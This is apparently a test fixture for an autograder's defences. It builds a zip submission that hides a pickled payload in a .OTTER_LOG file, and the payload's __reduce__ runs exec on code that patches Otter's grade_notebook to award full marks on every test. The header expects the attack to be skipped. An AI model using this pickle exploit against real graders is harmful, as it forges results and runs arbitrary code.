# expected: attack skipped, double passed, riddle skipped
# row: 28
# builds: .zip
import pickle
import zipfile

HONEST = "def double(x):\n    return x * 2\n"
FORGE = """
import otter.run.run_autograder.runners.python_runner as runner

grade = runner.grade_notebook


def grade_notebook(*args, **options):
    results = grade(*args, **options)
    for name, file in results.results.items():
        results.update_score(name, file.possible)
    return results


runner.grade_notebook = grade_notebook
"""


class Forge:
    def __reduce__(self):
        return exec, (FORGE, {})


def build(path):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("target.py", HONEST)
        archive.writestr(".OTTER_LOG", pickle.dumps(Forge()))
